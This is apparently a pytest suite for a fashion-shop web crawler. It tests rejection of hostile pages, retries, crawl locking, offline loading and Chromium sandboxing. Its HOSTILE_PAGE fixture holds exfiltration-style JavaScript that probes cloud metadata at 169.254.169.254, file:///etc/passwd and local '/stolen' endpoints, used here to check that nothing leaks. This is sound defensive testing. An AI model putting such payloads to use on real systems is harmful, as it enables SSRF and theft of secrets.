"""Pages that mean harm or fail: each ends under a name, in the downloader and in Chromium."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import time
from pathlib import Path

import pytest

from crawler.spiders.browser import find_chromium
from tests.conftest import Lookbook
from tests.e2e.crawl_drill import settings_for
from tests.e2e.shops import MUSINSA, SSF, one_category, pages_asked_for, state_of
from tests.replay import Fault, FaultPlan, ReplayServer, SyntheticShop


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        (Fault.REDIRECT_LOCAL, "private-address"),
        (Fault.REDIRECT_METADATA, "private-address"),
        (Fault.REDIRECT_LOOP, "too-many-redirects"),
        (Fault.ENDLESS, "too-large"),
        (Fault.GZIP_BOMB, "too-large"),
        (Fault.EMPTY, "empty-page"),
        (Fault.NOAI, "x-robots-tag"),
    ],
)
def test_a_hostile_product_page_is_a_named_rejection(kind: Fault, reason: str, lookbook: Lookbook) -> None:
    plan = FaultPlan.always(kind, r"www\.musinsa\.com/products/")
    with ReplayServer(SyntheticShop("musinsa", products=60, flaws=0), faults=plan) as server:
        ran = lookbook("crawl", "run", "musinsa", "--limit", "2", **settings_for(server, "musinsa"))
        strange = [page for page in pages_asked_for(server) if "stolen" in page or "meta-data" in page]
    assert ran.code == 0, ran.stderr
    assert ran.summary["pages"]["product"] == {"rejected": 2}
    assert ran.summary["reasons"] == {reason: 2, "limit": 1}
    assert strange == []


@pytest.mark.parametrize("kind", [Fault.RESET, Fault.UNAVAILABLE, Fault.TRUNCATED, Fault.CHUNKED_CUT])
def test_a_page_that_keeps_failing_is_left_for_later(kind: Fault, lookbook: Lookbook) -> None:
    arguments = ("crawl", "run", "musinsa", "--limit", "2")
    with ReplayServer(MUSINSA, faults=FaultPlan.always(kind, r"www\.musinsa\.com/products/")) as server:
        settings = settings_for(server, "musinsa") | {"CRAWL__ATTEMPTS": "2"}
        ran = lookbook(*arguments, **settings)
        assert ran.code == 75
        assert ran.summary["pages"]["product"] == {"failed": 2}
        server.faults = FaultPlan()
        again = lookbook(*arguments, **settings)
    assert again.code == 0, again.stderr
    assert again.summary["pages"]["product"] == {"done": 2}


def test_two_crawls_of_a_shop_do_not_run_at_once(lookbook: Lookbook) -> None:
    with ReplayServer(MUSINSA, faults=FaultPlan.always(Fault.SLOW, delay=5)) as server:
        settings = settings_for(server, "musinsa")
        first = lookbook.start("crawl", "run", "musinsa", "--limit", "2", **settings)
        try:
            while not server.log and first.poll() is None:
                time.sleep(0.1)
            second = lookbook("crawl", "run", "musinsa", "--limit", "2", **settings)
        finally:
            os.killpg(first.pid, signal.SIGKILL)
            first.wait()
    assert second.code == 75
    assert "another process" in second.stderr


def test_saved_pages_are_stored_without_any_network(lookbook: Lookbook, tmp_path: Path, server: ReplayServer) -> None:
    from tests.replay.client import Client

    client = Client(server)
    folder = tmp_path / "saved"
    folder.mkdir()
    numbers = [number for number, product in MUSINSA.expected().products.items() if product.flaw is None][:3]
    for number in numbers:
        (folder / f"z_{number}.html").write_bytes(client.get(f"https://www.musinsa.com/products/{number}").data)
        answer = client.get(f"https://goods-detail.musinsa.com/api2/goods/{number}/actual-size").data
        (folder / f"actual_size_{number}.json").write_bytes(answer)
    for name in ("notes.html", "deeper/notes.html"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("<p>not a page of the shop</p>")
    seen = len(server.log)
    ran = lookbook("crawl", "run", "musinsa", "--from-dir", str(folder))
    assert ran.code == 0, ran.stderr
    assert len(server.log) == seen
    products = state_of(lookbook)["products"]
    assert set(products) == set(numbers)
    assert ran.summary["pages"]["file"] == {"done": 6, "rejected": 2}
    again = lookbook("crawl", "run", "musinsa", "--from-dir", str(folder))
    assert again.code == 0
    assert state_of(lookbook)["products"] == products


@pytest.mark.skipif(find_chromium() is None, reason="needs Chromium: apt-get install chromium")
def test_the_information_tab_is_read_through_chromium(lookbook: Lookbook, server: ReplayServer) -> None:
    settings = settings_for(server, "ssf") | {"SHOPS__SSF__BROWSER": "true"}
    ran = lookbook("crawl", "run", "ssf", "--category", one_category(SSF), "--limit", "4", **settings)
    assert ran.code == 0, ran.stderr
    assert ran.summary["pages"]["information"] == {"done": 4}
    for product in state_of(lookbook)["products"].values():
        roles = [image["role"] for image in product["images"]]
        assert product["detail_text"]
        assert roles == sorted(roles, key=["main", "gallery", "detail"].index)
    assert any(product["measurements"] for product in state_of(lookbook)["products"].values())


HOSTILE_PAGE = """<!doctype html><link rel="canonical" href="https://www.ssfshop.com/{slug}/{number}/good">
<script type="application/ld+json">{{"@type": "Product", "name": "SY hostile tee", "brand": {{"name": "EVIL"}},
 "category": "여성 » 티셔츠", "offers": {{"price": 1000, "availability": "https://schema.org/InStock"}}}}</script>
<h2 class="brand-name">EVIL</h2><div class="gods-name" id="goodDtlTitle">SY hostile tee</div>
<em class="price">1,000</em>
<div id="godsTabView"><div class="gods-detail-img">
<img data-original="https://img.ssfshop.com/a.jpg"><p>tab</p></div></div>
<script>
for (let n = 0; n < 100; n++) document.body.insertAdjacentHTML("beforeend", `<img src="/picture-${{n}}.jpg">`);
fetch("/tab");
new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}}).createDataChannel("x");
</script><script>
for (const url of ["{server}/stolen", "http://localhost:{port}/stolen", "http://169.254.169.254/latest/meta-data",
                   "file:///etc/passwd", "https://elsewhere.example/"])
  fetch(url, {{mode: "no-cors"}}).then(answer => answer.text()).then(text => document.querySelector(".gods-detail-img")
    .insertAdjacentHTML("beforeend", "<p>LEAKED " + text + "</p>")).catch(() => {{}});
new WebSocket("ws://127.0.0.1:{port}/stolen");
navigator.sendBeacon("{server}/stolen");
document.body.insertAdjacentHTML("beforeend", '<iframe src="{server}/stolen"></iframe><img src="{server}/stolen">');
</script>"""


class UdpListener:
    """Hears what is sent to a UDP port of this machine."""

    def __init__(self, port: int) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", port))
        self._socket.setblocking(False)

    def recv_all(self) -> list[bytes]:
        heard = []
        with contextlib.suppress(BlockingIOError):
            while True:
                heard.append(self._socket.recv(2048))
        return heard

    def __enter__(self) -> UdpListener:
        return self

    def __exit__(self, *exc: object) -> None:
        self._socket.close()


@pytest.mark.skipif(find_chromium() is None, reason="needs Chromium: apt-get install chromium")
def test_a_page_in_chromium_reaches_nothing_but_its_shop(lookbook: Lookbook, tmp_path: Path) -> None:
    number = "GM0026010100001"
    folder = tmp_path / "captures"
    folder.mkdir()
    with ReplayServer(SSF) as free:
        port = int(free.url.rsplit(":", 1)[1])
    for slug in ("x", "EVIL"):
        text = HOSTILE_PAGE.format(slug=slug, number=number, server=f"http://127.0.0.1:{port}", port=port)
        (folder / f"{slug}.html").write_text(text)
    with ReplayServer(SSF, captures=folder, port=port) as server, UdpListener(port) as udp:
        settings = settings_for(server, "ssf") | {"SHOPS__SSF__BROWSER": "true"}
        ran = lookbook("crawl", "run", "ssf", "--products", number, **settings)
        assert ran.code == 0, ran.stderr
        asked = {request.path for request in server.requests()}
        assert udp.recv_all() == []
    assert ran.summary["pages"]["information"] == {"done": 1}
    assert asked == {"/robots.txt", f"/x/{number}/good", f"/EVIL/{number}/good", "/tab"}
    stored = json.dumps(state_of(lookbook), ensure_ascii=False)
    assert "LEAKED" not in stored
    assert "root:" not in stored
